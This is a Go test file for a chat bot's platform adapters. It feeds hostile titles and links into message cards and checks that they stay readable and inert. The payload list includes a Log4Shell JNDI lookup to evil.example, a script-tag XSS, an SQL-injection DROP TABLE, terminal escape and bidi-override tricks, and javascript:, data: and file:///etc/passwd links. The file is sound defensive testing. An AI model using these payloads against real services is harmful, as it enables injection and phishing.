package bottest

import (
	"context"
	"fmt"
	"net/url"
	"slices"
	"strings"

	"paperboy/internal/chat"
)

// Nasty is a text of the kind that turns up in titles and does more than being
// read if a platform lets it.
type Nasty struct {
	Name string
	Text string
	// Readable are the parts of it that people must be able to read.
	Readable []string
}

// Hostile are the texts that every platform has to survive.
func Hostile() []Nasty {
	return []Nasty{
		{"Slack mentions", "<!channel> <!here> <@U012AB3CD> <#C012AB3CD|general> wake up", []string{"<!channel>", "wake up"}},
		{"Discord mentions", "@everyone @here <@80351110224678912> <@&41771983423143936> all hands", []string{"everyone", "all hands"}},
		{"tokens", "<!date^1392734382^{date}|when> <t:1618953630:R> <:blob:1234> :tada: moment", []string{"<t:1618953630:R>", "moment"}},
		{"inline markup", "2 * 3 * 4 = 24, snake_case_name ~not~ `code` **strong** __init__ ||spoiler||", []string{"2 * 3 * 4 = 24", "snake_case_name", "`code`", "__init__", "||spoiler||"}},
		{"block markup", "> quoted # heading - item 1. first ```fence", []string{"> quoted", "# heading", "```fence"}},
		{"masked link", "[click here](https://evil.example/a) <https://evil.example/b|your bank>", []string{"[click here](https://evil.example/a)", "your bank"}},
		{"HTML", "<b>bold</b><script>alert(1)</script> &lt;kept&gt; &amp; co", []string{"<script>alert(1)</script>", "&lt;kept&gt;", "&amp; co"}},
		{"backslashes", `\alpha\_\* C:\new\table \`, []string{`\alpha`, `C:\new\table`}},
		{"terminal sequences", "\x1b[31mcrimson\x1b[0m \x1b]0;owned\x07 \x1b]8;;https://evil.example\x1b\\linked\x1b]8;;\x1b\\ \u009b2J\u009d0;t\u009c cleared", []string{"crimson", "linked", "cleared"}},
		{"overwriting", "honest\rforged\b\b\b\b\x7f\x00 line\n\n\nsecond\u2028third", []string{"honest", "second", "third"}},
		{"direction", "plain \u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u061c onward", []string{"plain", "isolated", "onward"}},
		{"broken UTF-8", "lefthalf \xff\xfe\xc3( \xed\xa0\x80 righthalf", []string{"lefthalf", "righthalf"}},
		{"wide and joined", "専門家の混合 Größe 👩‍👩‍👧 ❤️ 𝔐𝔬𝔈 خبراء", []string{"専門家の混合", "Größe", "👩‍👩‍👧", "خبراء"}},
		{"stacked marks", "z" + strings.Repeat("\u0300\u0489", 100) + " stacked", []string{"stacked"}},
		{"templates", "${jndi:ldap://evil.example/a} {{7*7}} %s%n '; DROP TABLE papers;--", []string{"{{7*7}}", "%s%n", "'; DROP TABLE papers;--"}},
		{"unseen", " \u200b\u2060\ufeff\n\t ", nil},
		{"empty", "", nil},
	}
}

// hostileIsShown puts every text into every field, a card each.
func hostileIsShown(ctx context.Context, f Fake) error {
	for group := range slices.Chunk(Hostile(), chat.MaxCards) {
		if err := sendHostile(ctx, f, group); err != nil {
			return err
		}
	}
	return nil
}

func sendHostile(ctx context.Context, f Fake, group []Nasty) error {
	shown, err := sendAndSee(ctx, f, hostileMessage(group), "a hostile message")
	if err != nil {
		return err
	}
	return shown.hasAll(group)
}

// hasAll checks that the texts of a hostile message can be read.
func (s Shown) hasAll(group []Nasty) error {
	text := squeezed(s.Text)
	const fields = 7 // text, title, byline, summary, why, counts, foot
	for _, n := range group {
		for _, r := range n.Readable {
			if got := strings.Count(text, squeezed(r)); got < fields {
				return fmt.Errorf("%s: people can read %q in %d of %d fields, in %q", n.Name, r, got, fields, s.Text)
			}
		}
	}
	return nil
}

func hostileMessage(group []Nasty) chat.Message {
	var m chat.Message
	for i, n := range group {
		m.Text = append(m.Text, chat.Span{Text: n.Text, Style: chat.Bold}, chat.Span{Text: "\n"})
		m.Foot = append(m.Foot, chat.Span{Text: n.Text}, chat.Span{Text: "\n"})
		m.Cards = append(m.Cards, chat.Card{
			Paper:   "arxiv:2401.08383",
			Number:  i + 1,
			Title:   chat.Plain(n.Text),
			Link:    "https://arxiv.org/abs/2401.08383",
			Byline:  n.Text,
			Summary: chat.Text{{Text: n.Text, Style: chat.Italic}},
			Why:     chat.Text{{Text: "matches "}, {Text: n.Text, Style: chat.Code}},
			Counts:  n.Text,
			Topics:  []string{n.Text},
			Buttons: []chat.Button{{Label: n.Text, Does: chat.Vote, Action: fmt.Sprintf("vote:%d", i)}},
		})
	}
	return m
}

// hostileLinks are addresses that must not become links as they are.
func hostileLinks() []string {
	return []string{
		"javascript:alert(1)",
		"data:text/html,<script>alert(1)</script>",
		"file:///etc/passwd",
		"//evil.example/a",
		"http://",
		"https://example.org/a|b>c<!channel>)[x](y",
		"https://example.org/\x1b]8;;https://evil.example\x07",
		"https://example.org/two words\nand lines",
		"https://example.org/\xff\u009b\u202e",
		"https://example.org/" + strings.Repeat("a", 5000),
	}
}

func hostileLinkIsNone(ctx context.Context, f Fake) error {
	var m chat.Message
	for i, link := range hostileLinks() {
		m.Cards = append(m.Cards, chat.Card{
			Number:  i + 1,
			Title:   chat.Plain(fmt.Sprintf("Title number %d.", i+1)),
			Link:    link,
			Summary: chat.Text{{Text: "a link", Link: link}},
			Buttons: []chat.Button{{Label: "Code", Link: link}},
		})
	}
	shown, err := sendAndSee(ctx, f, m, "a message with hostile links")
	if err != nil {
		return err
	}
	for _, link := range shown.Links {
		u, err := url.Parse(link)
		if err != nil || u.Scheme != "http" && u.Scheme != "https" || u.Host != "example.org" {
			return fmt.Errorf("people can follow the link %q", link)
		}
	}
	for _, c := range m.Cards {
		if err := shown.has(c.Title.String()); err != nil {
			return fmt.Errorf("link %q: %w", short(c.Link), err)
		}
	}
	return nil
}

// sendAndSee sends m and looks at it.
func sendAndSee(ctx context.Context, f Fake, m chat.Message, what string) (Shown, error) {
	if _, err := f.Platform().Send(ctx, f.Place(), m); err != nil {
		return Shown{}, fmt.Errorf("send %s: %w", what, err)
	}
	return saw(ctx, f, what)
}
